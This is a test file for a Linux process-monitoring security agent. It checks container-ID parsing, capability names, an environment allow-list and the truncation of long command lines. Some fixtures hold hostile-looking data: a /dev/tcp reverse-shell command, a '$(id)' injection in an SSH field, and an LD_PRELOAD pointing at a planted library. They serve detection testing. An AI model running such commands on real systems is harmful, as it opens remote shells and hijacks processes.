/** Pure pieces behind the Defend-faithful fields: containers, capabilities, environment, names. */
import { describe, expect, it } from 'vitest';
import { ContainerIds, containerIdFromCgroup, containerIdFromPath } from '../../src/process/container.js';
import { capabilityNames, hasEveryCapability } from '../../src/process/capabilities.js';
import { envForOutput, envNameProblem, filterEnviron, namesToRead, sshClientIp } from '../../src/process/environment.js';
import { memfdNameOf, scriptName } from '../../src/process/process-image.js';

const ID = '3f0c'.repeat(16);

describe('container.id from cgroup paths', () => {
  it.each([
    [`/docker/${ID}`, ID],
    [`/system.slice/docker-${ID}.scope`, ID],
    [`/kubepods/besteffort/pod0a1b2c3d-1111-2222-3333-444455556666/${ID}`, ID],
    [`/kubepods.slice/kubepods-burstable.slice/kubepods-burstable-pod1.slice/cri-containerd-${ID}.scope`, ID],
    [`/kubepods.slice/kubepods-pod1.slice/crio-${ID}.scope`, ID],
    [`/machine.slice/libpod-${ID}.scope`, ID],
    [`/user.slice/user-1000.slice/user@1000.service/user.slice/libpod-${ID}.scope/container`, ID],
    ['/lxc/web01', 'web01'],
    ['/lxc.payload.web01/system.slice', 'web01'],
    ['/lxc.payload/web01', 'web01'],
  ])('%s -> %s', (path, id) => {
    expect(containerIdFromPath(path)).toBe(id);
  });

  it.each([
    ['/'],
    ['/user.slice/user-1000.slice/session-3.scope'],
    ['/system.slice/docker.service'],
    [`/machine.slice/libpod-conmon-${ID}.scope`],
    [`/system.slice/crio-conmon-${ID}.scope`],
    ['/lxc.monitor.web01'],
    ['/process_api/955e9548e8ddc5c42872d2e0ad7eb199'],
  ])('%s is no container', (path) => {
    expect(containerIdFromPath(path)).toBeNull();
  });

  it('takes the innermost container of nested runtimes', () => {
    const inner = 'ab'.repeat(32);
    expect(containerIdFromPath(`/docker/${ID}/docker/${inner}`)).toBe(inner);
  });

  it('reads every line of a hybrid host, preferring the unified one', () => {
    const hybrid = `9:name=systemd:/\n8:pids:/docker/${ID}\n4:memory:/docker/${ID}\n0::/\n`;
    expect(containerIdFromCgroup(hybrid)).toBe(ID);
    const other = 'cd'.repeat(32);
    expect(containerIdFromCgroup(`1:cpu:/docker/${ID}\n0::/system.slice/docker-${other}.scope\n`)).toBe(other);
    expect(containerIdFromCgroup('9:name=systemd:/\n0::/user.slice\n')).toBeNull();
    expect(containerIdFromCgroup(`/docker/${ID}`)).toBe(ID); // a recording's bare path
    expect(containerIdFromCgroup('')).toBeNull();
  });

  it('memoises by text, boundedly', () => {
    const ids = new ContainerIds();
    const text = `0::/docker/${ID}\n`;
    expect(ids.idFor(text)).toBe(ID);
    expect(ids.idFor(text)).toBe(ID);
    expect(ids.idFor(null)).toBeNull();
    for (let i = 0; i < 5000; i++) ids.idFor(`0::/x/${i}\n`);
    expect(ids.idFor(text)).toBe(ID);
  });
});

describe('capabilities', () => {
  it('names the bits of a mask the way ECS writes them', () => {
    expect(capabilityNames(0)).toEqual([]);
    expect(capabilityNames(2 ** 21 + 2 ** 7 + 1)).toEqual(['CAP_CHOWN', 'CAP_SETUID', 'CAP_SYS_ADMIN']);
    expect(capabilityNames(2 ** 41 - 1)).toHaveLength(41);
    expect(capabilityNames(2 ** 41 - 1)).toContain('CAP_CHECKPOINT_RESTORE');
    expect(capabilityNames(2 ** 45)).toEqual(['45']); // a bit newer than this table
    expect(capabilityNames(-1)).toBeNull();
  });

  it('tells a full bounding set from a container default one', () => {
    expect(hasEveryCapability(2 ** 41 - 1, 40)).toBe(true);
    expect(hasEveryCapability(2 ** 38 - 1, 37)).toBe(true);
    expect(hasEveryCapability(0xa80425fb, 40)).toBe(false); // docker's default set
    expect(hasEveryCapability(-1, 40)).toBe(false);
  });
});

describe('environment allow-list', () => {
  const names = new Set(['LD_PRELOAD', 'SSH_CONNECTION']);
  const environ = (entries: string[]): Buffer => Buffer.from(entries.map((e) => `${e}\0`).join(''));

  it('keeps only listed names, in environ order, never a secret', () => {
    const got = filterEnviron(environ(['AWS_SECRET_ACCESS_KEY=s3cr3t', 'LD_PRELOAD=/tmp/x.so', 'PATH=/bin', 'LD_PRELOADX=1', 'SSH_CONNECTION=1.2.3.4 5 6.7.8.9 22']), names);
    expect(got).toEqual({ env: ['LD_PRELOAD=/tmp/x.so', 'SSH_CONNECTION=1.2.3.4 5 6.7.8.9 22'], truncated: false });
  });

  it('cuts a long value and says so', () => {
    const got = filterEnviron(environ([`LD_PRELOAD=${'a'.repeat(5000)}`]), names, { scanMaxBytes: 1 << 20, valueMaxBytes: 100, maxEntries: 4 });
    expect(got.env[0]).toHaveLength(100);
    expect(got.truncated).toBe(true);
  });

  it('cannot be padded blind: the scan cap is flagged, and the last duplicate always survives the entry cap', () => {
    const padded = filterEnviron(environ([`PAD=${'x'.repeat(2000)}`, 'LD_PRELOAD=/tmp/evil.so']), names, { scanMaxBytes: 1000, valueMaxBytes: 1024, maxEntries: 4 });
    expect(padded).toEqual({ env: [], truncated: true });
    const dupes = [...Array.from({ length: 20 }, (_, i) => `LD_PRELOAD=/benign/${i}.so`), 'LD_PRELOAD=/tmp/evil.so'];
    const kept = filterEnviron(environ(dupes), names, { scanMaxBytes: 1 << 20, valueMaxBytes: 1024, maxEntries: 4 });
    expect(kept.env).toEqual(['LD_PRELOAD=/benign/0.so', 'LD_PRELOAD=/benign/1.so', 'LD_PRELOAD=/benign/2.so', 'LD_PRELOAD=/tmp/evil.so']);
    expect(kept.truncated).toBe(true);
  });

  it('writes only configured names; reads SSH_CONNECTION for the session data', () => {
    expect(namesToRead(['LD_PRELOAD'])).toEqual(['LD_PRELOAD', 'SSH_CONNECTION']);
    expect(envForOutput(['LD_PRELOAD=/x', 'SSH_CONNECTION=1 2 3 4'], new Set(['LD_PRELOAD']))).toEqual(['LD_PRELOAD=/x']);
    expect(sshClientIp(['SSH_CONNECTION=192.0.2.7 50000 192.0.2.1 22'])).toBe('192.0.2.7');
    expect(sshClientIp(['SSH_CONNECTION=2001:db8::1 50000 2001:db8::2 22'])).toBe('2001:db8::1');
    expect(sshClientIp(['SSH_CONNECTION=$(id) 1 2 3'])).toBeNull();
    expect(sshClientIp(null)).toBeNull();
  });

  it('refuses names that cannot be listed', () => {
    expect(envNameProblem('LD_PRELOAD')).toBeNull();
    expect(envNameProblem('A=B')).not.toBeNull();
    expect(envNameProblem('')).not.toBeNull();
    expect(envNameProblem('X'.repeat(129))).not.toBeNull();
  });
});

describe('names as Defend gives them', () => {
  it('names a #! script after its file, in full, and nothing else after an argument', () => {
    expect(scriptName('tool.sh', 'bash', ['/bin/bash', './tool.sh', 'x'])).toBe('tool.sh');
    expect(scriptName('tool.py', 'env', ['/usr/bin/env', 'python3', './tool.py'])).toBe('tool.py');
    expect(scriptName('a-very-long-scr', 'bash', ['/bin/bash', '-e', '/opt/a-very-long-script-name.sh'])).toBe('a-very-long-script-name.sh');
    // A program exec'd through a symlink (python3 -> python3.11) is not a script.
    expect(scriptName('python3', 'python3.11', ['python3', 'tool.py'])).toBeNull();
    // A long program name cut by comm.
    expect(scriptName('x86_64-linux-gn', 'x86_64-linux-gnu-strings', ['x86_64-linux-gnu-strings', 'x86_64-linux-gnu-foo'])).toBeNull();
    // busybox applets: argv[0] carries the applet name.
    expect(scriptName('ls', 'busybox', ['ls', 'ls'])).toBeNull();
    expect(scriptName('bash', 'bash', ['bash', 'bash'])).toBeNull();
    expect(scriptName(null, 'bash', ['bash'])).toBeNull();
  });

  it('reads memfd names from the executable link', () => {
    expect(memfdNameOf('/memfd:payload (deleted)')).toBe('memfd:payload');
    expect(memfdNameOf('/memfd: (deleted)')).toBe('memfd:');
    expect(memfdNameOf('/usr/bin/bash')).toBeNull();
    expect(memfdNameOf('/tmp/x (deleted)')).toBeNull();
    expect(memfdNameOf(null)).toBeNull();
  });
});

describe('a cut argv keeps its head and its end', () => {
  it('decodes head and tail around the cut, marking where the middle went', async () => {
    const { decodeHeadAndTail } = await import('../../src/process/process-image.js');
    const whole = Buffer.from('bash\0-c\0eval "$2"\0_\0PADPADPADPADPAD\0MORE\0payload here\0');
    // Keep "bash\0-c\0eval" (head) and "AD\0MORE\0payload here\0" (tail).
    const head = whole.subarray(0, 12);
    const tail = whole.subarray(whole.length - 21);
    const decoded = decodeHeadAndTail(Buffer.concat([head, tail]), head.length);
    expect(decoded.args).toEqual(['bash', '-c', 'eval', 'AD', 'MORE', 'payload here']);
    expect(decoded.cutAt).toBe(3);
  });

  it('the /proc scanner keeps the same head and end and counts every argument', async () => {
    const { FixtureProcFs } = await import('../../src/process/procfs.js');
    const { makeProcTree, removeTree, writeProcess } = await import('./proc-tree.js');
    const root = makeProcTree();
    try {
      const pad = 'p'.repeat(400);
      writeProcess(root, { pid: 9, ppid: 1, comm: 'bash', argv: ['bash', '-c', 'eval "$2"', '_', pad, pad, 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'], startTicks: 1 });
      const snapshot = new FixtureProcFs(root, { cmdlineMaxBytes: 512, cmdlineTailBytes: 100 }).snapshot(9)!;
      expect(snapshot.cmdline!.length).toBe(512);
      expect(snapshot).toMatchObject({ cmdlineTruncated: true, cmdlineTailOffset: 412, argsTotal: 7 });
      const { imageFromSnapshot } = await import('../../src/process/process-image.js');
      const image = imageFromSnapshot(snapshot);
      expect(image.args!.at(-1)).toBe('bash -i >& /dev/tcp/203.0.113.9/4444 0>&1');
      expect(image.args!.slice(0, 3)).toEqual(['bash', '-c', 'eval "$2"']);
      expect(image.argsCount).toBe(7);
      expect(image.argsCutAt).toBe(5);
    } finally {
      removeTree(root);
    }
  });
});

describe('the table keeps a judged image compact', () => {
  it('keeps the head and end of a long argv, the real count, and never changes what documents hold', async () => {
    const { compactImage, imageFromSnapshot } = await import('../../src/process/process-image.js');
    const args = ['bash', '-c', 'eval "$2"', '_', 'p'.repeat(100_000), 'payload-at-the-end'];
    const snapshot = {
      cmdline: Buffer.from(args.map((a) => `${a}\0`).join('')), cmdlineTruncated: false, comm: 'bash', exe: '/usr/bin/bash', cwd: '/',
      ppid: 1, pgid: 1, sid: 1, ttyNr: 0, startTicks: 1, ruid: 0, euid: 0, rgid: 0, egid: 0, cgroup: null, failed: [],
    };
    const full = imageFromSnapshot(snapshot);
    const documentArgs = full.args!;
    const compact = compactImage(full, 8192);
    expect(compact.args!.join(' ').length).toBeLessThanOrEqual(8192 + 8);
    expect(compact.args!.slice(0, 4)).toEqual(['bash', '-c', 'eval "$2"', '_']);
    expect(compact.args!.at(-1)).toBe('payload-at-the-end');
    expect(compact).toMatchObject({ argsTruncated: true, argsCount: 6 });
    expect(compact.argsCutAt).toBeGreaterThan(0);
    expect(documentArgs).toEqual(args); // the document built from the full image is untouched
    expect(compactImage(compact, 8192)).toEqual(compact);
    const small = imageFromSnapshot({ ...snapshot, cmdline: Buffer.from('ls\0-l\0') });
    expect(compactImage(small, 8192)).toBe(small);
  });
});
